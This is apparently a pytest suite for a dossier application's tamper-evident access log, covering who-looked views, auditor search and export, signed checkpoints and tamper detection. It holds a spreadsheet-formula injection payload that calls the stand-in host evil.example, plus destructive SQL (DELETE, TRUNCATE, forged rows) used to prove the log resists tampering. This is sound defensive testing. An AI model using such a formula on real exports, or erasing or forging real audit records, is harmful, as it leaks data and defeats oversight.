"""The access log: complete, append-only, provable, and readable by owners and auditors."""

from __future__ import annotations

import json
import threading
import uuid
from datetime import date, timedelta

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from sqlalchemy import delete, event, func, insert, select, text, update
from sqlalchemy.exc import DBAPIError

from dossier.audit import ACCOUNT_CHAIN, chain_for, verify
from dossier.cli import main
from dossier.errors import AccessDenied
from dossier.keys import load_keys
from dossier.models import AuditChainHead, AuditCheckpoint, AuditEvent
from dossier.services import accounts, audit_views, dossiers, entries
from dossier.services.context import Context
from dossier.services.export import export_zip
from tests.conftest import PASSWORD, login_actor, wipe
from tests.support import as_database_owner


def test_the_owners_previous_visit_is_found_by_her_own_visits(shared_world, engine) -> None:
    """ "Who looked since your last visit" asks for her visit before this one. The planner must
    search her visits to this dossier, not walk every dossier's visits newest first until it
    has seen two of hers (PostgreSQL is told to avoid reading whole tables, as it would on a
    table this small)."""
    w = shared_world
    ran: list[tuple[str, object]] = []

    def remember(_conn, _cursor, statement, parameters, _context, _many) -> None:
        ran.append((statement, parameters))

    event.listen(engine, "before_cursor_execute", remember)
    try:
        audit_views.new_lookers(w["ctx"], w["sanne"], w["dossier"])
    finally:
        event.remove(engine, "before_cursor_execute", remember)
    (statement, parameters) = [(s, p) for s, p in ran if "audit_events" in s][-1]
    with engine.begin() as connection:
        explain = "EXPLAIN QUERY PLAN"
        if connection.dialect.name == "postgresql":
            connection.exec_driver_sql("SET LOCAL enable_seqscan = off")
            explain = "EXPLAIN"
        plan = " ".join(
            str(row) for row in connection.exec_driver_sql(f"{explain} {statement}", parameters)
        )
    assert "ix_audit_events_dossier_actor_action_at" in plan


def test_the_owner_reads_who_looked_in_plain_words(shared_world) -> None:
    w = shared_world
    ctx = w["ctx"]
    dossiers.get_dossier(ctx, w["sanne"], w["dossier"])  # a first visit
    entries.read_entry(ctx, w["anne"], w["dossier"], w["plan"])
    dossiers.get_dossier(ctx, w["sanne"], w["dossier"])  # the next visit
    assert audit_views.new_lookers(ctx, w["sanne"], w["dossier"]) == ["Anne"]
    log = audit_views.timeline(
        ctx, w["sanne"], w["dossier"], person=w["anne"].user_id, reads_only=True
    )
    reads = [item for item in log.items if item.action == "entry.read"]
    assert reads and reads[0].actor_name == "Anne" and reads[0].organisation == "Jeugdteam Zuid"
    assert reads[0].title == "Plan van aanpak" and reads[0].actor_role == "professional"
    assert "Anne" in [name for _id, name in log.people]
    with pytest.raises(AccessDenied):
        audit_views.timeline(ctx, w["anne"], w["dossier"])
    later = audit_views.timeline(
        ctx, w["sanne"], w["dossier"], since=ctx.now() + timedelta(minutes=1)
    )
    assert later.items == []


def test_the_auditor_finds_exports_and_verifies_without_content(shared_world) -> None:
    w = shared_world
    ctx = w["ctx"]
    page = audit_views.search(
        ctx, w["auditor"], audit_views.EventFilters(actor="anne", action="entry.read")
    )
    assert [e.actor_name for e in page.items] == ["Anne"] and page.items[0].dossier_id == w[
        "dossier"
    ]
    seen = json.dumps([e.__dict__ for e in page.items], default=str)
    assert "Plan van aanpak" not in seen and "Stappen" not in seen
    by_dossier = audit_views.search(
        ctx, w["auditor"], audit_views.EventFilters(dossier_id=w["dossier"], limit=3)
    )
    assert len(by_dossier.items) == 3 and by_dossier.next_cursor
    rest = audit_views.search(
        ctx,
        w["auditor"],
        audit_views.EventFilters(dossier_id=w["dossier"], limit=200, cursor=by_dossier.next_cursor),
    )
    assert not {e.id for e in by_dossier.items} & {e.id for e in rest.items}
    csv = audit_views.export(
        ctx, w["auditor"], audit_views.EventFilters(dossier_id=w["dossier"]), "csv"
    ).decode()
    assert (
        csv.splitlines()[0].startswith("at,chain,seq")
        and "entry.read" in csv
        and "Plan van" not in csv
    )
    exported = json.loads(audit_views.export(ctx, w["auditor"], audit_views.EventFilters(), "json"))
    assert {"dossier.create", "grant.approve", "entry.read"} <= {e["action"] for e in exported}
    audit_views.checkpoint(ctx)
    state = audit_views.verify_now(ctx, w["auditor"])
    assert state.report.ok and state.report.checkpoints == 1 and state.report.chains >= 2
    with pytest.raises(AccessDenied):
        audit_views.search(ctx, w["anne"], audit_views.EventFilters())


def test_denied_attempts_are_logged_on_their_own(shared_world) -> None:
    w = shared_world
    ctx = w["ctx"]
    with pytest.raises(AccessDenied):
        audit_views.search(ctx, w["sanne"], audit_views.EventFilters())
    stranger_id = uuid.uuid4()
    with pytest.raises(Exception):  # noqa: B017 - NotFound; what matters is what was logged
        dossiers.get_dossier(ctx, w["anne"], stranger_id)
    with ctx.unit_of_work() as db:
        denied = db.scalars(select(AuditEvent.action).where(AuditEvent.outcome == "denied")).all()
    assert {"audit.search", "dossier.open"} <= set(denied)


def test_reads_fail_closed_when_the_log_cannot_be_written(shared_world, monkeypatch) -> None:
    import dossier.services.work as module

    w = shared_world

    def broken(*_args, **_kwargs):
        raise RuntimeError("log store down")

    monkeypatch.setattr(module, "append", broken)
    with pytest.raises(RuntimeError):
        entries.read_entry(w["ctx"], w["sanne"], w["dossier"], w["plan"])


def _tamper(engine, statement) -> None:
    with as_database_owner(engine) as connection:
        connection.execute(statement)


def _events(ctx: Context, chain: str) -> list[AuditEvent]:
    with ctx.unit_of_work() as db:
        return list(
            db.scalars(select(AuditEvent).where(AuditEvent.chain == chain).order_by(AuditEvent.seq))
        )


def _report(ctx: Context):
    with ctx.unit_of_work() as db:
        return verify(db, ctx.audit_key.public_key().public_bytes_raw())


def test_one_tamper_of_each_kind_is_caught_and_named(shared_world, engine) -> None:
    ctx = shared_world["ctx"]
    chain = chain_for(shared_world["dossier"])
    audit_views.checkpoint(ctx)
    assert _report(ctx).ok
    rows = _events(ctx, chain)
    middle = rows[len(rows) // 2]

    def check(expected_reason: str, expected_chain: str = chain) -> None:
        report = _report(ctx)
        assert not report.ok and report.first_broken.chain == expected_chain, report
        assert expected_reason in report.first_broken.reason, report.first_broken

    # An edited field (the column only, as a careless forger would).
    _tamper(engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(outcome="denied"))
    check("a field differs")
    _tamper(
        engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(outcome=middle.outcome)
    )
    assert _report(ctx).ok

    # An edited id or time: both are compared as the hashed event spells them.
    for edit in ({"actor_id": uuid.uuid4()}, {"at": middle.at + timedelta(microseconds=1)}):
        _tamper(engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(**edit))
        check("a field differs")
        restore = {name: getattr(middle, name) for name in edit}
        _tamper(engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(**restore))
        assert _report(ctx).ok

    # Stored bytes that are not one event: no JSON, a list, an object with more after it.
    for body in ("not json", "[1, 2]", middle.body + " {}", " " + middle.body):
        _tamper(engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(body=body))
        check("not the stored event")
    _tamper(engine, update(AuditEvent).where(AuditEvent.id == middle.id).values(body=middle.body))
    assert _report(ctx).ok

    # A deleted row in the middle.
    saved = {c.name: getattr(middle, c.key) for c in AuditEvent.__table__.columns}
    _tamper(engine, delete(AuditEvent).where(AuditEvent.id == middle.id))
    check("missing")
    _tamper(engine, insert(AuditEvent).values(**saved))
    assert _report(ctx).ok

    # The tail cut before the last checkpoint (and the head rolled back to hide it).
    last = rows[-1]
    saved_last = {c.name: getattr(last, c.key) for c in AuditEvent.__table__.columns}
    _tamper(engine, delete(AuditEvent).where(AuditEvent.id == last.id))
    _tamper(
        engine,
        update(AuditChainHead)
        .where(AuditChainHead.chain == chain)
        .values(seq=last.seq - 1, hash=last.prev_hash),
    )
    check("cut short before the last checkpoint")
    _tamper(engine, insert(AuditEvent).values(**saved_last))
    _tamper(
        engine,
        update(AuditChainHead)
        .where(AuditChainHead.chain == chain)
        .values(seq=last.seq, hash=last.hash),
    )
    assert _report(ctx).ok

    # A forged row inserted: the following rows shift up by one.
    body = json.loads(middle.body)
    forged = {
        **saved,
        "id": uuid.uuid4(),
        "body": json.dumps({**body, "reason": "forged"}, sort_keys=True, separators=(",", ":")),
    }
    with as_database_owner(engine) as connection:
        for row in reversed(rows[rows.index(middle) :]):
            connection.execute(
                update(AuditEvent).where(AuditEvent.id == row.id).values(seq=row.seq + 1)
            )
        connection.execute(insert(AuditEvent).values(**forged))
    check("forged")
    with as_database_owner(engine) as connection:
        connection.execute(delete(AuditEvent).where(AuditEvent.id == forged["id"]))
        for row in rows[rows.index(middle) :]:
            connection.execute(
                update(AuditEvent).where(AuditEvent.id == row.id).values(seq=row.seq)
            )
    assert _report(ctx).ok

    # Two rows swapped.
    a, b = rows[1], rows[2]
    with as_database_owner(engine) as connection:
        connection.execute(update(AuditEvent).where(AuditEvent.id == a.id).values(seq=-1))
        connection.execute(update(AuditEvent).where(AuditEvent.id == b.id).values(seq=a.seq))
        connection.execute(update(AuditEvent).where(AuditEvent.id == a.id).values(seq=b.seq))
    check("moved from another place")
    with as_database_owner(engine) as connection:
        connection.execute(update(AuditEvent).where(AuditEvent.id == a.id).values(seq=-1))
        connection.execute(update(AuditEvent).where(AuditEvent.id == b.id).values(seq=b.seq))
        connection.execute(update(AuditEvent).where(AuditEvent.id == a.id).values(seq=a.seq))
    assert _report(ctx).ok

    # A checkpoint signature replaced by one from another key.
    with ctx.unit_of_work() as db:
        checkpoint = db.get(AuditCheckpoint, 1)
        body_bytes = checkpoint.body.encode()
    from dossier.audit import CHECKPOINT_LABEL

    other = Ed25519PrivateKey.generate().sign(CHECKPOINT_LABEL + body_bytes).hex()
    _tamper(
        engine, update(AuditCheckpoint).where(AuditCheckpoint.number == 1).values(signature=other)
    )
    check("signature is not valid", "checkpoint:1")


def test_cli_verify_fails_and_names_an_edited_row(shared_world, engine, app, keys_dir) -> None:
    env = {
        "DOSSIER_DATABASE_URL": app.extensions["dossier"]["settings"].database_url,
        "DOSSIER_KEYS_DIR": str(keys_dir),
    }
    runner = CliRunner()
    made = runner.invoke(main, ["audit", "checkpoint"], env=env)
    assert made.exit_code == 0 and json.loads(made.output)["number"] == 1
    intact = runner.invoke(main, ["audit", "verify"], env=env)
    assert intact.exit_code == 0 and "intact" in intact.output
    row = _events(shared_world["ctx"], ACCOUNT_CHAIN)[2]
    _tamper(engine, update(AuditEvent).where(AuditEvent.id == row.id).values(reason="edited"))
    broken = runner.invoke(main, ["audit", "verify"], env=env)
    assert broken.exit_code == 1
    assert f"chain {ACCOUNT_CHAIN}, sequence {row.seq}" in broken.output
    exported = runner.invoke(
        main, ["audit", "export", "--since", "2000-01-01", "--format", "json"], env=env
    )
    assert exported.exit_code == 0 and json.loads(exported.output)
    worker = runner.invoke(main, ["worker", "--once"], env=env)
    assert worker.exit_code == 0


def test_checkpoints_come_when_due(keyed: Context) -> None:
    assert audit_views.checkpoint_if_due(keyed) is None  # nothing to sign yet
    every_two = Context(
        keyed.sessions,
        keyed.settings.with_overrides(checkpoint_every_events=2),
        clock=keyed.clock,
        audit_key=keyed.audit_key,
    )
    accounts.register(every_two, accounts.NewAccount("a@example.nl", PASSWORD, "A", "parent"))
    assert audit_views.checkpoint_if_due(every_two) is not None  # the first one is always due
    accounts.register(every_two, accounts.NewAccount("b@example.nl", PASSWORD, "B", "parent"))
    assert audit_views.checkpoint_if_due(every_two) is None
    accounts.register(every_two, accounts.NewAccount("c@example.nl", PASSWORD, "C", "parent"))
    made = audit_views.checkpoint_if_due(every_two)
    assert made is not None and made.number == 2


def test_postgres_refuses_to_change_the_log(apps, keys_dir, clock) -> None:
    """On PostgreSQL only: that is where the triggers live (SQLite has no such thing)."""
    state = apps["postgresql"].extensions["dossier"]
    engine = state["engine"]
    wipe(engine)
    ctx = Context(
        state["sessions"],
        state["settings"],
        clock=clock,
        audit_key=load_keys(keys_dir).audit_signing_key,
    )
    accounts.register(ctx, accounts.NewAccount("a@example.nl", PASSWORD, "A", "parent"))
    audit_views.checkpoint(ctx)
    for statement in [
        "UPDATE audit_events SET reason = 'x'",
        "DELETE FROM audit_events",
        "TRUNCATE audit_events",
        "UPDATE audit_checkpoints SET signature = 'x'",
        "DELETE FROM audit_checkpoints",
        "TRUNCATE audit_checkpoints",
    ]:
        with pytest.raises(DBAPIError, match="append-only"), engine.begin() as connection:
            connection.execute(text(statement))
    assert _report(ctx).ok and _report(ctx).events == 1


def test_writers_on_many_dossiers_at_once_leave_intact_chains(keyed: Context, engine) -> None:
    ctx = keyed
    owners = []
    for number in range(4):
        accounts.register(
            ctx,
            accounts.NewAccount(
                f"y{number}@example.nl",
                PASSWORD,
                f"Y{number}",
                "youth",
                birth_date=date(2009, 1, 1 + number),
            ),
        )
        owner = login_actor(ctx, f"y{number}@example.nl")
        owners.append(
            (owner, dossiers.create_dossier(ctx, owner, f"Y{number}", None, for_self=True))
        )
    errors: list[BaseException] = []

    def write(owner, dossier, count: int) -> None:
        try:
            for index in range(count):
                entries.write_entry(
                    ctx, owner, dossier.id, dossier.sections[0].id, f"T{index}", "B", "note"
                )
        except BaseException as error:
            errors.append(error)

    threads = [
        threading.Thread(target=write, args=(owner, dossier, 6)) for owner, dossier in owners
    ]
    # Two more writers on the same dossier as the first.
    threads += [threading.Thread(target=write, args=(*owners[0], 6)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    with ctx.unit_of_work() as db:
        counts = dict(
            db.execute(select(AuditEvent.chain, func.count()).group_by(AuditEvent.chain)).all()
        )
    assert counts[chain_for(owners[0][1].id)] == 1 + 18
    assert all(counts[chain_for(d.id)] == 1 + 6 for _o, d in owners[1:])
    assert _report(ctx).ok


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Anne")'


def test_the_csv_export_shows_formulas_as_text_and_the_json_keeps_them(shared_world) -> None:
    """OWASP CSV injection: a name that a spreadsheet would run reaches the auditor as text."""
    import csv
    import io

    w = shared_world
    ctx = w["ctx"]
    accounts.register(
        ctx, accounts.NewAccount("mallory@example.nl", PASSWORD, FORMULA_NAME, "parent")
    )
    mallory = login_actor(ctx, "mallory@example.nl")
    filters = audit_views.EventFilters(actor=str(mallory.user_id))
    rows = list(
        csv.DictReader(io.StringIO(audit_views.export(ctx, w["auditor"], filters, "csv").decode()))
    )
    assert rows and {row["actor_name"] for row in rows} == {"'" + FORMULA_NAME}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    exported = json.loads(audit_views.export(ctx, w["auditor"], filters, "json"))
    assert {event["actor_name"] for event in exported} == {FORMULA_NAME}


def _logged(ctx: Context, action: str) -> list[AuditEvent]:
    with ctx.unit_of_work() as db:
        return list(
            db.scalars(
                select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.at)
            )
        )


def test_listing_dossiers_reads_their_names_and_logs_it_in_each_dossier(shared_world) -> None:
    w = shared_world
    ctx = w["ctx"]
    brother = dossiers.create_dossier(ctx, w["marieke"], "Tim", date(2016, 5, 1), for_self=False)
    [seen] = dossiers.list_dossiers(ctx, w["anne"])
    assert seen.subject_name == "Sanne" and seen.sections
    [event] = _logged(ctx, "dossier.list")
    assert (event.actor_id, event.dossier_id, event.outcome) == (
        w["anne"].user_id,
        w["dossier"],
        "success",
    )
    assert event.chain == chain_for(w["dossier"]) and event.basis == f"grant:{w['grant']}"
    assert event.object_type == "dossier" and event.object_id == str(w["dossier"])
    # One event per listed dossier, in that dossier's own chain, on every call.
    dossiers.list_dossiers(ctx, w["marieke"])
    dossiers.list_dossiers(ctx, w["anne"])
    by_marieke = [e for e in _logged(ctx, "dossier.list") if e.actor_id == w["marieke"].user_id]
    assert sorted(e.chain for e in by_marieke) == sorted(
        [chain_for(w["dossier"]), chain_for(brother.id)]
    )
    assert {e.basis for e in by_marieke} == {"ownership:guardian"}
    assert len(_logged(ctx, "dossier.list")) == 4
    # The owner sees it under "who looked", and the chains stay intact.
    log = audit_views.timeline(
        ctx, w["sanne"], w["dossier"], person=w["anne"].user_id, reads_only=True
    )
    assert [i.action for i in log.items].count("dossier.list") == 2
    assert _report(ctx).ok


def test_every_use_case_that_hands_out_names_logs_one_event(shared_world) -> None:
    w = shared_world
    ctx = w["ctx"]
    before = {action: len(_logged(ctx, action)) for action in ("dossier.open", "dossier.create")}
    dossiers.get_dossier(ctx, w["anne"], w["dossier"])
    assert len(_logged(ctx, "dossier.open")) == before["dossier.open"] + 1
    dossiers.create_dossier(ctx, w["marieke"], "Tim", date(2016, 5, 1), for_self=False)
    assert len(_logged(ctx, "dossier.create")) == before["dossier.create"] + 1
    export_zip(ctx, w["sanne"], w["dossier"], lambda data: data.dossier.subject_name)
    [exported] = _logged(ctx, "dossier.export")
    assert exported.reason == "1 entries" and exported.actor_id == w["sanne"].user_id
